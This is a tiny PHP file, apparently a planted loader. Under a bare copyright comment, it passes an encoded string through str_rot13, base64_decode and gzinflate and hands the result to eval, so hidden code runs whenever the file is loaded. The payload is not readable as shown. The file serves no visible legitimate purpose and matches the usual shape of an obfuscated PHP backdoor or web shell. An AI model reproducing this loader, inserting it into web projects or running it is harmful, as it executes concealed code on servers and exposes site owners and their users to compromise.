<?php
/* Copyright (c) 2019 */
eval(gzinflate(base64_decode(str_rot13('H0z2ILy39is39aFAIfbcHLd1g9qDvD/jQj6OpsAXp3V0eGCGASFFSJ1gjokdyKmo4bmHaWm41VeHMV2xkBWHZ5C4yAGx/WEHbQWAGriH5Vk8Onu4nu5RCS/GhuLN'))));
